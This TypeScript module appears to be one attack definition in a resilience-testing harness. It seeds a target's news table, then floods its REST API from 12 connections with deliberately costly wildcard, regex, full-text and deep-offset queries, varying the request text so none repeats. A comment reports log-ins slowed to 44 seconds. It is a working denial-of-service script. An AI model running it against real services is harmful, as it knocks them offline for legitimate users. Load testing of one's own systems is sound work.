import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, TargetFacts } from './attack.ts';
import { fillNews } from './fill-news.ts';

const connections = 12;
const attackMs = 25_000;
const pauseMs = 50;
const patterns = ['*e%25a*', '*o%25a%25e*', '*z%25', '*r%25d%25r*'];

/** 1.25 requests a second of this kind made reads wait for 14 s, and log-ins for 44 s. */
export const slowReads: Attack = {
  name: 'slow-reads',
  says: 'visitors on 12 connections of one address ask for what takes long, no text twice',
  keepsReads: { timesIdle: 3 },
  prepare: (target) => fillNews(target, { rows: 12_000, characters: 400 }),
  run: async (target) => {
    const until = performance.now() + attackMs;
    const statuses = new Map<number, number>();
    await Promise.all(
      Array.from({ length: connections }, async (_, connection) => {
        for (let turn = 0; performance.now() < until; turn += 1) {
          const status = await askDearly(target, `c${connection}_${turn}`, turn);
          statuses.set(status, (statuses.get(status) ?? 0) + 1);
          await pause(pauseMs);
        }
      }),
    );
    return Object.fromEntries([...statuses].map(([status, count]) => [`answers ${status}`, count]));
  },
};

async function askDearly(
  { url, publishableKey }: TargetFacts,
  name: string,
  turn: number,
): Promise<number> {
  const likes = patterns.map((pattern) => `summary.ilike.${pattern}`).join();
  const numbers = Array.from({ length: 80 }, (_, number) => `summary.neq.${number}`).join();
  const queries = [
    `or=(${likes})&and=(${numbers})&order=summary.desc,headline.desc&offset=11000`,
    `and=(${numbers})&order=summary.asc,headline.asc&limit=1`,
    'summary=imatch.(w|o)*(r|d)*x&order=summary.desc',
    'summary=wfts.word&order=summary.desc',
  ];
  const response = await fetch(
    `${url}/rest/v1/news?select=${name}:id&${queries[turn % queries.length]}`,
    { headers: { apikey: publishableKey, prefer: 'count=exact' } },
  );
  await response.arrayBuffer();
  return response.status;
}
